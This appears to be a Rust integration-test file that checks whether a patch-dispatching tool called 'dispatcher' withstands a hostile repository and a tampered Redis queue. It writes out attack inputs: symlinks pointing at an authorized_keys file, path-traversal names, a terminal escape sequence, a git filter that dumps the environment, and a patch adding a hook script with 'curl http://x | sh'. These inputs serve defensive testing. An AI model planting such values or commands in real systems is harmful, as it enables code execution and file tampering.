//! `dispatcher apply` against a hostile repository and a hostile Redis writer: symlinks
//! committed into the tree and task paths rewritten in Redis must not make it write outside
//! the work tree. Real binaries, a real redis-server, a scripted LLM.

use std::os::unix::fs::symlink;

use crate::fake_llm::{FakeLlm, resolved_run};
use crate::util::{RedisServer, cmd, demo_repo, git, git_commit, run, spawn_worker};
use tars_fleet::queue::keys;

fn task_id_of(redis: &RedisServer, run_id: &str, path: &str) -> String {
    let mut c = redis.conn();
    let ids: Vec<String> = redis::cmd("SMEMBERS")
        .arg(keys::run_tasks(run_id))
        .query(&mut c)
        .unwrap();
    ids.into_iter()
        .find(|id| {
            let p: Option<String> = redis::cmd("HGET")
                .arg(keys::task(run_id, id))
                .arg("path")
                .query(&mut c)
                .unwrap();
            p.as_deref() == Some(path)
        })
        .unwrap_or_else(|| panic!("no task for {path}"))
}

#[test]
fn apply_never_writes_through_a_symlink_or_outside_the_work_tree() {
    let redis = RedisServer::start();
    let fake = FakeLlm::resolving();
    let repo = demo_repo();
    let outside = tempfile::tempdir().unwrap();
    // Outside the tree: copies of two demo files (so their content hashes match the tasks')
    // and a file an attacker wants overwritten.
    for f in ["web/cart.js", "cmd/main.go"] {
        let name = f.rsplit('/').next().unwrap();
        std::fs::copy(repo.path().join(f), outside.path().join(name)).unwrap();
    }
    let victim = outside.path().join("authorized_keys");
    std::fs::write(&victim, "ssh-ed25519 AAAA mine\n").unwrap();
    // The repository commits symlinks: a directory leading outside, a file leading outside.
    symlink(outside.path(), repo.path().join("linkdir")).unwrap();
    symlink(
        outside.path().join("main.go"),
        repo.path().join("main_link.go"),
    )
    .unwrap();
    git(repo.path(), &["add", "-A"]);
    git_commit(repo.path(), "hostile links");

    let _worker = spawn_worker(&redis, &fake.url(), &[], std::process::Stdio::null());
    let out = tempfile::tempdir().unwrap();
    let mut d = cmd("dispatcher");
    d.env("TARS_REDIS__URL", redis.url())
        .args(["run", "--wait", "--timeout", "120", "--out"])
        .arg(out.path())
        .arg(repo.path());
    let r = run(d);
    let run_id = r.stdout.trim().to_string();
    assert!(!run_id.is_empty(), "{}", r.stderr);

    // Before: the temp file had a predictable name next to the file and was written through
    // whatever stood there. A repository commits a symlink at that name.
    let backup = task_id_of(&redis, &run_id, "scripts/backup.sh");
    symlink(
        &victim,
        repo.path()
            .join(format!("scripts/backup.tars-{backup}.tmp")),
    )
    .unwrap();
    git(repo.path(), &["add", "-A"]);
    git_commit(repo.path(), "a link at the old temp name");

    // A Redis writer points two done tasks through the links.
    let mut c = redis.conn();
    for (from, to) in [
        ("web/cart.js", "linkdir/cart.js"),
        ("cmd/main.go", "main_link.go"),
    ] {
        let id = task_id_of(&redis, &run_id, from);
        let _: () = redis::cmd("HSET")
            .arg(keys::task(&run_id, &id))
            .arg("path")
            .arg(to)
            .query(&mut c)
            .unwrap();
    }
    // And one out of the tree altogether.
    let id = task_id_of(&redis, &run_id, "src/lib.rs");
    let _: () = redis::cmd("HSET")
        .arg(keys::task(&run_id, &id))
        .arg("path")
        .arg("../escape.rs")
        .query(&mut c)
        .unwrap();

    let before: Vec<(String, String)> = std::fs::read_dir(outside.path())
        .unwrap()
        .map(|e| {
            let e = e.unwrap();
            (
                e.file_name().to_string_lossy().into_owned(),
                std::fs::read_to_string(e.path()).unwrap(),
            )
        })
        .collect();
    let mut a = cmd("dispatcher");
    a.env("TARS_REDIS__URL", redis.url())
        .current_dir(repo.path())
        .args(["apply", &run_id]);
    let r = run(a).success();
    for (name, text) in &before {
        assert_eq!(
            &std::fs::read_to_string(outside.path().join(name)).unwrap(),
            text,
            "{name} outside the tree was written:\n{}",
            r.stderr
        );
    }
    for (path, why) in [
        ("linkdir/cart.js", "linkdir is a symbolic link"),
        ("main_link.go", "main_link.go is a symbolic link"),
        (
            "../escape.rs",
            "the task's path is not a plain path inside the repository",
        ),
    ] {
        assert!(
            r.stderr.contains(&format!("{path}: {why}")),
            "{path}: {why}\n{}",
            r.stderr
        );
    }
    // The benign patch next to the planted link was applied, through a temp file of its own.
    let text = std::fs::read_to_string(repo.path().join("scripts/backup.sh")).unwrap();
    assert!(!text.contains("TODO:"), "{text}\n{}", r.stderr);
    let stray: Vec<String> = walk_names(repo.path())
        .into_iter()
        .filter(|n| n.contains(".tars-") && !n.ends_with(&format!("backup.tars-{backup}.tmp")))
        .collect();
    assert!(stray.is_empty(), "temp files left behind: {stray:?}");
}

#[test]
fn a_file_named_like_pathspec_magic_with_uncommitted_edits_is_left_alone() {
    // `:x.py` read as a pathspec is magic, and `git status -- :x.py` said nothing about it.
    let redis = RedisServer::start();
    let fake = FakeLlm::resolving();
    let repo = tempfile::tempdir().unwrap();
    let file = repo.path().join(":x.py");
    std::fs::write(&file, "def f(x):\n    # TODO: check x\n    return x\n").unwrap();
    git(repo.path(), &["init", "-q"]);
    git(repo.path(), &["add", "-A"]);
    git_commit(repo.path(), "magic name");
    let _worker = spawn_worker(&redis, &fake.url(), &[], std::process::Stdio::null());
    let mut d = cmd("dispatcher");
    let out = tempfile::tempdir().unwrap();
    d.env("TARS_REDIS__URL", redis.url())
        .args(["run", "--wait", "--timeout", "120", "--out"])
        .arg(out.path())
        .arg(repo.path());
    let run_id = run(d).stdout.trim().to_string();
    // An uncommitted change that keeps the scanned content in the work tree: the user staged
    // an edit, then restored the file. `git status` shows it; apply must see it too.
    let scanned = std::fs::read_to_string(&file).unwrap();
    std::fs::write(&file, "def f(x):\n    return x  # mine\n").unwrap();
    git(repo.path(), &["add", "--", ":(literal):x.py"]);
    std::fs::write(&file, &scanned).unwrap();
    let mut a = cmd("dispatcher");
    a.env("TARS_REDIS__URL", redis.url())
        .current_dir(repo.path())
        .args(["apply", &run_id]);
    let r = run(a).success();
    assert_eq!(
        std::fs::read_to_string(&file).unwrap(),
        scanned,
        "{}",
        r.stderr
    );
    assert!(
        r.stderr.contains(":x.py: the file has uncommitted changes"),
        "{}",
        r.stderr
    );
}

fn walk_names(dir: &std::path::Path) -> Vec<String> {
    let mut out = Vec::new();
    for e in std::fs::read_dir(dir).unwrap().flatten() {
        let p = e.path();
        if e.file_name() == ".git" {
            continue;
        }
        if e.file_type().unwrap().is_dir() {
            out.extend(walk_names(&p));
        } else {
            out.push(p.display().to_string());
        }
    }
    out
}

#[test]
fn ids_from_redis_never_name_a_file_outside_the_results_directory() {
    let redis = RedisServer::start();
    let repo = demo_repo();
    let work = tempfile::tempdir().unwrap();
    let run_id = resolved_run(&redis, repo.path(), &work.path().join("first"));
    // A Redis writer renames a done task `../../x` and lists a run `../../outside/evilrun`
    // as the latest.
    let mut c = redis.conn();
    let id = task_id_of(&redis, &run_id, "web/cart.js");
    let _: () = redis::cmd("HSET")
        .arg(keys::task(&run_id, &id))
        .arg("id")
        .arg("../../x")
        .query(&mut c)
        .unwrap();
    let _: () = redis::cmd("ZADD")
        .arg(keys::runs())
        .arg("99999999999999")
        .arg("../../outside/evilrun")
        .query(&mut c)
        .unwrap();
    let out = work.path().join("a/b/out");
    let mut r = cmd("dispatcher");
    r.env("TARS_REDIS__URL", redis.url())
        .args(["results", &run_id, "--out"])
        .arg(&out);
    run(r).success();
    assert!(
        !work.path().join("a/x.patch").exists(),
        "a patch escaped the results directory"
    );
    let names: Vec<String> = std::fs::read_dir(&out)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    assert!(names.contains(&"summary.json".to_string()), "{names:?}");
    assert!(
        names.iter().all(|n| n == "summary.json" || n.len() == 22),
        "{names:?}"
    );
    // The latest run is not a run id: refused by name, nothing written.
    let mut r = cmd("dispatcher");
    r.env("TARS_REDIS__URL", redis.url())
        .current_dir(work.path())
        .args(["results"]);
    let o = run(r).code_is(1);
    assert!(
        o.stderr
            .contains("\"../../outside/evilrun\" is not a run id"),
        "{}",
        o.stderr
    );
    // tars-out/../../outside/evilrun, from the working directory.
    assert!(
        !work
            .path()
            .parent()
            .unwrap()
            .join("outside/evilrun")
            .exists()
    );
    assert!(!work.path().join("tars-out").exists());
}

#[test]
fn one_malformed_task_does_not_hide_the_rest_of_the_run() {
    let redis = RedisServer::start();
    let repo = demo_repo();
    let work = tempfile::tempdir().unwrap();
    let run_id = resolved_run(&redis, repo.path(), &work.path().join("first"));
    let done_before = std::fs::read_dir(work.path().join("first"))
        .unwrap()
        .filter(|e| {
            e.as_ref()
                .unwrap()
                .path()
                .extension()
                .is_some_and(|x| x == "patch")
        })
        .count();
    assert!(
        done_before >= 2,
        "the scripted LLM should resolve the demo's TODOs"
    );
    // A Redis writer breaks one task's hash.
    let bad = task_id_of(&redis, &run_id, "web/cart.js");
    let mut c = redis.conn();
    let _: () = redis::cmd("HSET")
        .arg(keys::task(&run_id, &bad))
        .arg("state")
        .arg("\u{1b}]0;pwned\u{7}")
        .query(&mut c)
        .unwrap();
    // Three more: a field that is not UTF-8, a task key of another type, and a task id in the
    // run's set that is not UTF-8. Each made the whole listing fail before.
    let other = task_id_of(&redis, &run_id, "cmd/main.go");
    let _: () = redis::cmd("HSET")
        .arg(keys::task(&run_id, &other))
        .arg("text")
        .arg(&b"\xff\xfe"[..])
        .query(&mut c)
        .unwrap();
    let _: () = redis::cmd("SET")
        .arg(keys::task(&run_id, "0123456789abcdef"))
        .arg("not a hash")
        .query(&mut c)
        .unwrap();
    let _: () = redis::cmd("SADD")
        .arg(keys::run_tasks(&run_id))
        .arg("0123456789abcdef")
        .arg(&b"\xff\xfe"[..])
        .query(&mut c)
        .unwrap();
    let out = work.path().join("second");
    let mut r = cmd("dispatcher");
    r.env("TARS_REDIS__URL", redis.url())
        .args(["results", &run_id, "--out"])
        .arg(&out);
    let o = run(r).success();
    assert!(
        o.stderr.contains(&keys::task(&run_id, &bad)) && o.stderr.contains("malformed"),
        "{}",
        o.stderr
    );
    let patches = std::fs::read_dir(&out)
        .unwrap()
        .filter(|e| {
            e.as_ref()
                .unwrap()
                .path()
                .extension()
                .is_some_and(|x| x == "patch")
        })
        .count();
    assert_eq!(patches, done_before - 2, "{}", o.stderr);
    assert!(
        o.stderr.contains(&keys::task(&run_id, &other))
            && o.stderr.contains("0123456789abcdef")
            && o.stderr.contains("not UTF-8"),
        "{}",
        o.stderr
    );
    let mut a = cmd("dispatcher");
    a.env("TARS_REDIS__URL", redis.url())
        .current_dir(repo.path())
        .args(["apply", &run_id]);
    let o = run(a).success();
    // Every other done patch is considered (a second one to the same file waits, as always);
    // the malformed task is not among them.
    assert!(
        o.stderr
            .contains(&format!(" of {} patches applied", done_before - 2))
            && !o.stderr.contains(&format!("{bad} web/cart.js")),
        "{}",
        o.stderr
    );
}

#[test]
fn a_run_hash_rewritten_to_name_another_repository_cannot_steer_apply_there() {
    let redis = RedisServer::start();
    let repo = demo_repo();
    let work = tempfile::tempdir().unwrap();
    let run_id = resolved_run(&redis, repo.path(), &work.path().join("out"));
    // Another repository of the user's, with the same files (a fork, a second clone): the
    // tasks' content hashes match there too.
    let other = demo_repo();
    let mut c = redis.conn();
    let _: () = redis::cmd("HSET")
        .arg(keys::run(&run_id))
        .arg("repo")
        .arg(other.path().to_str().unwrap())
        .query(&mut c)
        .unwrap();
    let head = |p: &std::path::Path| git(p, &["status", "--porcelain"]).stdout;
    // From anywhere but inside it, a plain `apply` refuses and names the fix.
    let mut a = cmd("dispatcher");
    a.env("TARS_REDIS__URL", redis.url())
        .current_dir(work.path())
        .args(["apply", &run_id]);
    let r = run(a).code_is(2);
    assert!(
        r.stderr.contains("--repo") && r.stderr.contains(other.path().to_str().unwrap()),
        "{}",
        r.stderr
    );
    assert!(
        head(other.path()).is_empty(),
        "the other repository was written"
    );
    // From inside the scanned repository too: the recorded path is not where the user is...
    let mut a = cmd("dispatcher");
    a.env("TARS_REDIS__URL", redis.url())
        .current_dir(repo.path())
        .args(["apply", &run_id]);
    let r = run(a).code_is(2);
    assert!(head(other.path()).is_empty(), "{}", r.stderr);
    // ...and naming it writes it.
    let mut a = cmd("dispatcher");
    a.env("TARS_REDIS__URL", redis.url())
        .args(["apply", &run_id, "--repo"])
        .arg(repo.path());
    let r = run(a).success();
    assert!(!head(repo.path()).is_empty(), "{}", r.stderr);
    assert!(head(other.path()).is_empty(), "{}", r.stderr);
}

#[test]
fn a_repository_filter_never_runs_during_apply() {
    // `git status` runs a clean filter on any file whose stat data is stale (a copied or
    // touched checkout), and a repository's `.git/config` names the command.
    let redis = RedisServer::start();
    let repo = tempfile::tempdir().unwrap();
    std::fs::write(
        repo.path().join("a.py"),
        "def f(x):\n    # TODO: check x\n    return x\n",
    )
    .unwrap();
    std::fs::write(repo.path().join(".gitattributes"), "*.py filter=x\n").unwrap();
    git(repo.path(), &["init", "-q"]);
    git(repo.path(), &["add", "-A"]);
    git_commit(repo.path(), "init");
    let mark = repo.path().join(".git/filter-ran");
    let command = format!("sh -c 'env >> {}; cat'", mark.display());
    git(repo.path(), &["config", "filter.x.clean", &command]);
    git(repo.path(), &["config", "filter.x.smudge", &command]);
    let work = tempfile::tempdir().unwrap();
    let run_id = resolved_run(&redis, repo.path(), work.path());
    // Stale stat data, as after `cp -a`, a tarball or a CI cache.
    let t = std::time::SystemTime::now() + std::time::Duration::from_secs(5);
    std::fs::File::options()
        .write(true)
        .open(repo.path().join("a.py"))
        .unwrap()
        .set_modified(t)
        .unwrap();
    let mut a = cmd("dispatcher");
    a.env("TARS_REDIS__URL", redis.url())
        .env("TARS_LLM__API_KEY", "sk-must-not-leak")
        .current_dir(repo.path())
        .args(["apply", &run_id]);
    let r = run(a).success();
    assert!(
        !mark.exists(),
        "the repository's filter ran:\n{}\n{}",
        std::fs::read_to_string(&mark).unwrap_or_default(),
        r.stderr
    );
    // The filter is `cat` both ways: the committed bytes are the file's, so it is patched.
    let text = std::fs::read_to_string(repo.path().join("a.py")).unwrap();
    assert!(!text.contains("TODO"), "{text}\n{}", r.stderr);
}

#[test]
fn a_patch_rewritten_in_redis_to_touch_another_file_is_neither_written_out_nor_applied() {
    let redis = RedisServer::start();
    let repo = demo_repo();
    let work = tempfile::tempdir().unwrap();
    let run_id = resolved_run(&redis, repo.path(), &work.path().join("first"));
    let id = task_id_of(&redis, &run_id, "scripts/backup.sh");
    let mut c = redis.conn();
    let patch: String = redis::cmd("HGET")
        .arg(keys::task(&run_id, &id))
        .arg("patch")
        .query(&mut c)
        .unwrap();
    let evil = format!(
        "{patch}diff --git a/.hook.sh b/.hook.sh\nnew file mode 100755\n--- /dev/null\n+++ b/.hook.sh\n@@ -0,0 +1 @@\n+curl http://x | sh\n"
    );
    let _: () = redis::cmd("HSET")
        .arg(keys::task(&run_id, &id))
        .arg("patch")
        .arg(&evil)
        .query(&mut c)
        .unwrap();
    let out = work.path().join("second");
    let mut r = cmd("dispatcher");
    r.env("TARS_REDIS__URL", redis.url())
        .args(["results", &run_id, "--out"])
        .arg(&out);
    let o = run(r).success();
    assert!(
        !out.join(format!("{id}.patch")).exists(),
        "the rewritten patch was written out:\n{}",
        o.stderr
    );
    assert!(o.stderr.contains(".hook.sh"), "{}", o.stderr);
    let mut a = cmd("dispatcher");
    a.env("TARS_REDIS__URL", redis.url())
        .current_dir(repo.path())
        .args(["apply", &run_id]);
    let o = run(a).success();
    assert!(!repo.path().join(".hook.sh").exists());
    assert!(
        o.stderr.contains(&format!(
            "{id} scripts/backup.sh: the patch is not one this run made"
        )),
        "{}",
        o.stderr
    );
}

#[test]
fn a_committed_tars_out_link_does_not_carry_the_results_elsewhere() {
    let redis = RedisServer::start();
    let repo = demo_repo();
    let outside = tempfile::tempdir().unwrap();
    symlink(outside.path(), repo.path().join("tars-out")).unwrap();
    git(repo.path(), &["add", "-A"]);
    git_commit(repo.path(), "a link where results go by default");
    let fake = FakeLlm::resolving();
    let _worker = spawn_worker(&redis, &fake.url(), &[], std::process::Stdio::null());
    let mut d = cmd("dispatcher");
    d.env("TARS_REDIS__URL", redis.url())
        .current_dir(repo.path())
        .args(["run", "--wait", "--timeout", "120", "."]);
    let o = run(d).code_is(2);
    assert!(
        o.stderr.contains("tars-out") && o.stderr.contains("--out"),
        "{}",
        o.stderr
    );
    assert_eq!(std::fs::read_dir(outside.path()).unwrap().count(), 0);
}
